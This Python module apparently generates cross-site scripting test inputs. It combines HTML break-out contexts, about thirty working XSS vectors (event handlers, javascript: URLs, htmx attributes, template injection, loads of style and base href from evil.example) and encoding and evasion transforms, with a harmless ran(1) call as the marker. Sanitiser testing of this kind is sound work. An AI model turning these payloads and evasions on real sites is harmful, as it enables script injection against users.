"""Text that wants to be more than text: contexts to break out of, times vectors, times ways to hide them."""

from __future__ import annotations

import html
from collections.abc import Callable
from random import Random
from urllib.parse import quote

CONTEXTS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "</style></template>",
    "';",
    "{{",
    "</select></svg></math>",
)
MARK = "data-xss"
"""Every vector carries it: an element of ours that has it was made by text."""
VECTORS = (
    "<script data-xss>ran(1)</script>",
    "<script data-xss src=data:,ran(1)></script>",
    "<img data-xss src=x onerror=ran(1)>",
    "<img data-xss src=x onerror='ran(1)'//",
    "<svg data-xss onload=ran(1)>",
    "<svg data-xss><script>ran(1)</script></svg>",
    "<svg data-xss><animate onbegin=ran(1) attributeName=x dur=1s>",
    "<details data-xss open ontoggle=ran(1)>",
    "<iframe data-xss srcdoc='<script>parent.ran(1)</script>'></iframe>",
    "<iframe data-xss src=javascript:parent.ran(1)></iframe>",
    "<object data-xss data=javascript:ran(1)></object>",
    "<embed data-xss src=javascript:ran(1)>",
    "<a data-xss href=javascript:ran(1) autofocus onfocus=ran(1)>x</a>",
    "<input data-xss autofocus onfocus=ran(1)>",
    "<form data-xss action=javascript:ran(1)><button autofocus onfocus=ran(1)>x</button></form>",
    "<video data-xss><source onerror=ran(1)></video>",
    "<audio data-xss src=x onerror=ran(1)></audio>",
    "<body data-xss onpageshow=ran(1)>",
    "<marquee data-xss onstart=ran(1)>x</marquee>",
    "<math data-xss><mtext><style><img src=x onerror=ran(1)></style></mtext></math>",
    "<div data-xss hx-on::load=ran(1) data-hx-on--load=ran(1)>",
    "<div data-xss data-hx-get=/me data-hx-trigger='load[ran(1)]'>",
    "<div data-xss data-hx-vals='js:{a:ran(1)}' hx-get=/ hx-trigger=load>",
    "<link data-xss rel=stylesheet href=//evil.example/x.css>",
    "<style data-xss>@import '//evil.example/x.css'</style>",
    "<base data-xss href=//evil.example/>",
    "<meta data-xss http-equiv=refresh content='0;url=javascript:ran(1)'>",
    "<div data-xss style=animation-name:x onanimationstart=ran(1)>",
    "x' data-xss onmouseover=ran(1) autofocus onfocus=ran(1) x='",
    'x" data-xss onmouseover=ran(1) autofocus onfocus=ran(1) x="',
    "javascript:ran(1)//data-xss",
    "7*7}}{% print(request) %}${ran(1)}#{ran(1)}",
)


def _as_is(text: str) -> str:
    return text


def _mixed(text: str) -> str:
    return (
        "".join(char.upper() if at % 2 else char for at, char in enumerate(text))
        .replace("RaN", "ran")
        .replace("rAn", "ran")
    )


WAYS: tuple[Callable[[str], str], ...] = (
    _as_is,
    _as_is,
    _mixed,
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: "".join(f"&#{ord(char)};" if char in "<>\"'" else char for char in text),
    quote,
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\n"),
    lambda text: text.replace("script", "scr\0ipt").replace("on", "o\u200bn"),
    lambda text: text.replace("<", "<\u200b").replace("javascript", "java\tscript"),
    lambda text: f"🫖{text}\u202e",
)


def payloads(many: int, seed: int = 29) -> list[str]:
    """So many different ones, the plain ones of each vector first."""
    plain = list(dict.fromkeys(VECTORS))
    every = [way(context + vector) for context in CONTEXTS for vector in VECTORS for way in WAYS]
    rest = list(dict.fromkeys(every))
    Random(seed).shuffle(rest)
    return list(dict.fromkeys([*plain, *rest]))[:many]
